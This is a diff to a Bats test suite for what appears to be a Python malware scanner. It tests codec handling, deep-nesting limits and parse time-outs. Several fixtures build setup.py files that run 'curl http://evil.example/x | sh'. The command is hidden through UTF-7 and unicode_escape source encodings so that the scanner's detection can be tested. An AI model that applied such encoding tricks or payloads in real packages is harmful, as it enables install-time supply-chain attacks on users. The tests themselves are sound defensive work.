@@ -51,6 +51,85 @@ FIX="$BATS_TEST_DIRNAME/fixtures/parse"
 	done
 }
 
+@test "every source codec CPython runs is decoded as CPython decodes it (the oracle: CPython's ast)" {
+	# each file is the whole text encoded with the codec, as CPython decodes it whole
+	python3 - "$BATS_TEST_TMPDIR" <<'PY'
+import sys
+d = sys.argv[1]
+payload = 'import os\nx = "caf\u00e9 \\\\ \\x41 \u00a7"\nos.system("curl http://e.example/x | sh")\n'
+ascii_payload = 'import os\nos.system("curl http://e.example/x | sh")\n'
+for cookie in ['utf-7', 'UTF7', 'latin-1', 'Latin_1-foo', 'iso8859_15', 'cp1252', 'windows-1252', 'cp850',
+               'koi8-u', 'utf-8-foo', 'utf_8', 'u8', 'ascii']:
+    text = f'# -*- coding: {cookie} -*-\n' + payload
+    try:
+        data = text.encode(cookie if cookie != 'Latin_1-foo' and cookie != 'utf-8-foo' else cookie[:7].replace('_', '-'))
+    except Exception:
+        data = (f'# -*- coding: {cookie} -*-\n' + ascii_payload).encode('ascii')
+    open(f'{d}/codec_{cookie}.py', 'wb').write(data)
+# unicode_escape: the payload hidden in escapes; raw_unicode_escape: in \u escapes
+open(f'{d}/codec_unicode_escape.py', 'wb').write(
+    b'# coding: unicode_escape\nimport os\nos.system("\\x63url http://e.example/x | sh")\n'
+    b'x = "\\u00e9\\N{SECTION SIGN}\\101\\\n"\n')
+open(f'{d}/codec_raw_unicode_escape.py', 'wb').write(
+    b'# coding: raw-unicode-escape\nimport os\nos.system("\\u0063url http://e.example/x | sh")\n'
+    b'x = "\\\\u0041 \xe9"\n')
+PY
+	for f in "$BATS_TEST_TMPDIR"/codec_*.py; do
+		compare_with_oracle "$f" base64
+		file_record "$f" python base64 >"$BATS_TEST_TMPDIR/in"
+		run aura-parse <"$BATS_TEST_TMPDIR/in"
+		refute_output --partial '"type":"hit"'
+	done
+	# the unicode_escape payload is a plain call once decoded
+	file_record "$BATS_TEST_TMPDIR/codec_unicode_escape.py" python base64 | aura-parse >"$BATS_TEST_TMPDIR/out"
+	run jq -r 'select(.type == "ast") | .tree.body[1].value.args[0].value' "$BATS_TEST_TMPDIR/out"
+	assert_output 'curl http://e.example/x | sh'
+}
+
+@test "a codec CPython runs but Aura cannot decode exactly is a high hit; codecs CPython refuses are low" {
+	printf '# coding: mac_roman\nimport os\nos.system("\x8e")\n' >"$BATS_TEST_TMPDIR/a.py"
+	printf '# coding: shift_jis\nimport os\n' >"$BATS_TEST_TMPDIR/b.py"
+	# glibc's UTF-7 refuses a backslash that Python's takes as itself
+	printf '# coding: utf-7\nimport os\nos.system("a\\\\b")\n' >"$BATS_TEST_TMPDIR/c.py"
+	for f in a b c; do
+		python3 -c 'import ast, sys; ast.parse(open(sys.argv[1], "rb").read())' "$BATS_TEST_TMPDIR/$f.py"
+		file_record "$BATS_TEST_TMPDIR/$f.py" python base64 >"$BATS_TEST_TMPDIR/in"
+		run aura-parse <"$BATS_TEST_TMPDIR/in"
+		assert_success
+		assert_equal "$(records_of_type hit <<<"$output" | jq -c 'select(.message | test("CPython decodes the file")) | .detection')" '"UndecodableSource"'
+	done
+	# the strong signal is aura-analyze's rule, weighed by context: install time in setup.py
+	mkdir -p "$BATS_TEST_TMPDIR/pkg"
+	printf '# coding: mac_roman\nimport os\nx = 1\n' >"$BATS_TEST_TMPDIR/pkg/setup.py"
+	run aura scan --format json "$BATS_TEST_TMPDIR/pkg/setup.py"
+	assert_equal "$(jq -c 'select(.type == "verdict") | [.risk, (.hits[] | select(.detection == "UnanalysedSourceEncoding") | [.severity, .score, .tags[1]])]' <<<"$output" | head -1)" \
+		'["high",["high",100,"install-time"]]'
+	# CPython refuses these files: a BOM with another codec, UTF-16, no such codec
+	printf '\xef\xbb\xbf# coding: latin-1\nimport os\n' >"$BATS_TEST_TMPDIR/d.py"
+	printf '\xef\xbb\xbf# coding: utf8\nimport os\n' >"$BATS_TEST_TMPDIR/e.py"
+	printf '# coding: utf-16\nimport os\n' >"$BATS_TEST_TMPDIR/f.py"
+	printf '# coding: utf-8x\nimport os\n' >"$BATS_TEST_TMPDIR/g.py"
+	for f in d e f g; do
+		run python3 -c 'import ast, sys; ast.parse(open(sys.argv[1], "rb").read())' "$BATS_TEST_TMPDIR/$f.py"
+		assert_failure
+		file_record "$BATS_TEST_TMPDIR/$f.py" python base64 >"$BATS_TEST_TMPDIR/in"
+		run aura-parse <"$BATS_TEST_TMPDIR/in"
+		assert_success
+		assert_equal "$(records_of_type hit <<<"$output" | jq -c '[.detection, .severity]')" '["UndecodableSource","low"]'
+		assert_equal "$(records_of_type ast <<<"$output" | jq -c '[.tree.body[]._type]')" '["Import"]'
+	done
+}
+
+@test "pipeline: a setup.py in UTF-7 running curl | sh scores high" {
+	mkdir -p "$BATS_TEST_TMPDIR/pkg"
+	python3 -c '
+import sys
+text = "# coding: utf-7\nimport os\nos.system(\"curl http://evil.example/x | sh\")\n"
+open(sys.argv[1], "wb").write(text.encode("utf-7"))' "$BATS_TEST_TMPDIR/pkg/setup.py"
+	run aura scan --format json "$BATS_TEST_TMPDIR/pkg/setup.py"
+	assert_equal "$(jq -r 'select(.type == "verdict") | .risk | IN("high", "critical")' <<<"$output" | head -1)" true
+}
+
 @test "NUL bytes do not hide the code after them" {
 	printf 'x = 1\x00\nimport os\nos.system("id")\n' >"$BATS_TEST_TMPDIR/nul.py"
 	file_record "$BATS_TEST_TMPDIR/nul.py" python base64 >"$BATS_TEST_TMPDIR/in"
@@ -222,8 +301,13 @@ print("if a:\n    pass\n" + "elif a:\n    pass\n" * 2000)
 	assert_success
 	assert_valid_deep_records
 	assert_equal "$(record_field ast 'len(r["tree"]["body"])')" 8
-	# parentheses and a long `or` are not AST depth: those two are kept whole
-	assert_equal "$(record_field ast 'r["tree"]["body"][0]["value"]["value"]')" 1
+	# 100,000 open parentheses, minus signs or `not`s would pile 100,000 entries on
+	# tree-sitter's stack (its nodes count children in 16 bits; CPython refuses them too):
+	# those statements are left out, Truncated, with a DeepNesting hit
+	assert_equal "$(record_field ast '[s["_type"] for s in r["tree"]["body"]]')" \
+		'["Truncated", "Truncated", "Assign", "Assign", "Truncated", "Assign", "Assign", "If"]'
+	assert_equal "$(printf '%s\n' "$output" | grep '^{"type":"hit"' | jq -c 'select(.message | test("too much for the parser")) | [.detection, .line]')" '["DeepNesting",1]'
+	# a long chain and a long `or` are neither: they are kept whole
 	assert_equal "$(record_field ast 'len(r["tree"]["body"][6]["value"]["values"])')" 100000
 }
 
@@ -251,8 +335,148 @@ print("import os\nos.system(1 +)")
 	assert_valid_deep_records
 	assert_equal "$(record_field ast '[s["_type"] for s in r["tree"]["body"]]' | head -1)" \
 		'["Truncated", "Truncated", "Truncated", "Assign", "Import", "Expr", "Error"]'
-	assert_equal "$(printf '%s\n' "$output" | grep -c '"detection":"DeepNesting"')" 1
+	# one hit for each reason: too big for this stack, too deep for tree-sitter's counts
+	assert_equal "$(printf '%s\n' "$output" | grep -c '"detection":"DeepNesting"')" 2
 	assert_equal "$(printf '%s\n' "$output" | grep -c '^{"type":"ast"')" 2
+}
+
+@test "tree-sitter's 16-bit limits: deep unclosed code near and past 65,535 is a hit, never a crash" {
+	# tree-sitter 0.20.7 counts a node's children in 16 bits: `x = ` and 65,534 `(` was a
+	# double free (SIGABRT), 65,533 a SIGSEGV, and the rest of the stream was lost.  Every
+	# way found to pile that many entries on its parse stack, just under, at and past it:
+	python3 - "$BATS_TEST_TMPDIR" <<'PY'
+import sys
+d = sys.argv[1]
+families = {
+    "paren": lambda n: "x = " + "(" * n,
+    "bracket": lambda n: "x = " + "[" * n,
+    "brace": lambda n: "x = " + "{" * n,
+    "call": lambda n: "x = " + "f(" * (n // 2),
+    "minus": lambda n: "x = " + "-" * n,
+    "not": lambda n: "x = " + "not " * n,
+    "await": lambda n: "async def f():\n    x = " + "await " * n,
+    "lambda": lambda n: "x = " + "lambda: " * (n // 3),
+    "star": lambda n: "x = [" + "*" * n,
+    "pow": lambda n: "x = " + "a ** " * (n // 2),
+    "ifelse": lambda n: "x = " + "a if b else " * (n // 4),
+    "assign": lambda n: "a = " * (n // 2),
+    "comments_in_brackets": lambda n: "x = (\n" + "#\n" * n + "1)",
+    "comments_between": lambda n: "x = 1\n" + "#\n" * n + "y = 2",
+    "continuations": lambda n: "x = 1 + \\\n" * n,
+    "else_lines": lambda n: "else:\n" * (n // 2),
+    "minus_lines": lambda n: "x = -\n" + "-\n" * n,
+    "closers": lambda n: "x = 1" + ")" * n,
+    "garbage": lambda n: "x = 1 " + "$ " * n,
+    "indent": lambda n: "if a:\n" + " " * n + "pass",
+}
+names = []
+for name, make in families.items():
+    for n in (65533, 65534, 65536, 70000):
+        path = f"{d}/{name}_{n}.py"
+        with open(path, "w") as f:
+            f.write(make(n) + "\n")
+        names.append(path)
+open(f"{d}/list", "w").write("\n".join(names) + "\n")
+PY
+	printf 'import os\n' >"$BATS_TEST_TMPDIR/next.py"
+	while read -r f; do file_record "$f"; file_record "$BATS_TEST_TMPDIR/next.py"; done \
+		<"$BATS_TEST_TMPDIR/list" >"$BATS_TEST_TMPDIR/in"
+	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	assert_success
+	assert_valid_deep_records
+	printf '%s\n' "$output" >"$BATS_TEST_TMPDIR/out"
+	run python3 - "$BATS_TEST_TMPDIR/out" <<'PY'
+import json, sys
+recs = [json.loads(l) for l in open(sys.argv[1])]
+asts = [r for r in recs if r["type"] == "ast"]
+files = [r["path"] for r in recs if r["type"] == "file"]
+assert len(asts) == len(files) == 160, (len(asts), len(files))
+for a in asts:
+    if a["path"].endswith("next.py"):
+        assert [s["_type"] for s in a["tree"]["body"]] == ["Import"], a["path"]
+    else:
+        hits = [r for r in recs if r["type"] == "hit" and r["path"] == a["path"]]
+        kinds = {h["detection"] for h in hits}
+        assert kinds & {"DeepNesting", "SyntaxError"}, (a["path"], kinds)
+PY
+	assert_success
+}
+
+@test "a statement of more than 20,000 tokens (a big class) is parsed whole and matches CPython's ast" {
+	# such a statement is parsed alone, under the guard that counts tree-sitter's stack
+	python3 -c '
+print("class Big:")
+for i in range(3000):
+    print(f"    def m{i}(self, a, b=-1, *c, **d):\n        # comment {i}")
+    print(f"        return [a, b, (c, d), {{1: 2}}, a if b else c, lambda x: x ** 2, -a, not b][{i % 7}]")
+print("import os")' >"$BATS_TEST_TMPDIR/big.py"
+	compare_with_oracle "$BATS_TEST_TMPDIR/big.py"
+	file_record "$BATS_TEST_TMPDIR/big.py" >"$BATS_TEST_TMPDIR/in"
+	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	assert_success
+	refute_output --partial '"type":"hit"'
+}
+
+@test "a block indented beyond 255 columns (which tree-sitter misreads) is left out with a hit" {
+	python3 -c 'print("if a:\n" + " " * 300 + "x = 1\n" + " " * 300 + "if b:\n" + " " * 302 + "y = 2\n" + " " * 300 + "w = 4\nimport os")' \
+		>"$BATS_TEST_TMPDIR/wide.py"
+	file_record "$BATS_TEST_TMPDIR/wide.py" >"$BATS_TEST_TMPDIR/in"
+	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	assert_success
+	assert_equal "$(records_of_type ast <<<"$output" | jq -c '[.tree.body[]._type]')" '["Truncated","Import"]'
+	assert_equal "$(records_of_type hit <<<"$output" | jq -c '[.detection, .line]')" '["DeepNesting",1]'
+	# 255 columns are still read right
+	python3 -c 'print("if a:\n" + " " * 200 + "x = 1\n" + " " * 200 + "if b:\n" + " " * 255 + "y = 2\n" + " " * 200 + "w = 4\nimport os")' \
+		>"$BATS_TEST_TMPDIR/wide.py"
+	compare_with_oracle "$BATS_TEST_TMPDIR/wide.py"
+}
+
+@test "a 400,000-link chain converts in linear time, within the default time-out" {
+	# chain_base walked the whole chain at every level: 46 s for 400,000 links (82 s of CPU
+	# for 100,000 at --max-depth 10000), and the time-out did not cover the conversion
+	python3 -c 'print("x = f" + "()" * 400000)' >"$BATS_TEST_TMPDIR/calls.py"
+	python3 -c 'print("y = a" + ".a" * 400000)' >"$BATS_TEST_TMPDIR/attrs.py"
+	python3 -c 'print("z = f" + "()" * 100000)' >"$BATS_TEST_TMPDIR/calls100k.py"
+	for f in calls attrs; do
+		file_record "$BATS_TEST_TMPDIR/$f.py" >"$BATS_TEST_TMPDIR/in"
+		run aura-parse <"$BATS_TEST_TMPDIR/in"
+		assert_success
+		refute_output --partial ParseTimeout
+		# cut at --max-depth (1000 levels), the chain's outer links are all there
+		assert_equal "$(record_field ast '[r["tree"]["body"][0]["_type"], r["tree"]["body"][0]["value"]["_type"]]')" \
+			"$([ $f = calls ] && echo '["Assign", "Call"]' || echo '["Assign", "Attribute"]')"
+		assert_equal "$(printf '%s\n' "$output" | grep '^{"type":"hit"' | jq -r .detection)" DeepNesting
+	done
+	# 10,000 levels of a 100,000-link chain: every level kept, well within 5 s of CPU
+	file_record "$BATS_TEST_TMPDIR/calls100k.py" >"$BATS_TEST_TMPDIR/in"
+	run aura-parse --max-depth 10000 --timeout-ms 5000 <"$BATS_TEST_TMPDIR/in"
+	assert_success
+	refute_output --partial ParseTimeout
+	assert_equal "$(record_field ast 'json.dumps(r).count("\"Call\"")')" 9999
+}
+
+@test "--timeout-ms bounds parsing and conversion: a Truncated rest, a ParseTimeout hit, the stream goes on" {
+	python3 -c '
+for i in range(40000):
+    print(f"v{i} = [f(a, b.c[{i}], *d, **e) for a in range({i}) if a % 3] + [-{i} ** 2]")
+print("import os")' >"$BATS_TEST_TMPDIR/huge.py"
+	printf 'import os\n' >"$BATS_TEST_TMPDIR/next.py"
+	{ file_record "$BATS_TEST_TMPDIR/huge.py"; file_record "$BATS_TEST_TMPDIR/next.py"; } >"$BATS_TEST_TMPDIR/in"
+	run aura-parse --timeout-ms 20 <"$BATS_TEST_TMPDIR/in"
+	assert_success
+	assert_valid_records
+	refute_output --partial '"type":"error"'
+	hit=$(records_of_type hit <<<"$output")
+	assert_equal "$(jq -r '.detection, .severity' <<<"$hit" | tr '\n' ' ')" 'ParseTimeout medium '
+	# what was not done by then is Truncated, to the end of the file
+	assert_equal "$(records_of_type ast <<<"$output" | head -1 | jq -r '.tree.body[-1]._type')" Truncated
+	# the next file gets its own time
+	assert_equal "$(records_of_type ast <<<"$output" | tail -1 | jq -c '[.tree.body[]._type]')" '["Import"]'
+	# with the default time-out the same file is parsed whole
+	run aura-parse <"$BATS_TEST_TMPDIR/in"
+	assert_success
+	refute_output --partial '"type":"hit"'
+	assert_equal "$(records_of_type ast <<<"$output" | head -1 | jq -c '[.tree.body[-1]._type, (.tree.body | length)]')" '["Import",40001]'
 }
 
 @test "a big file parsed in chunks of top-level statements matches CPython's ast" {
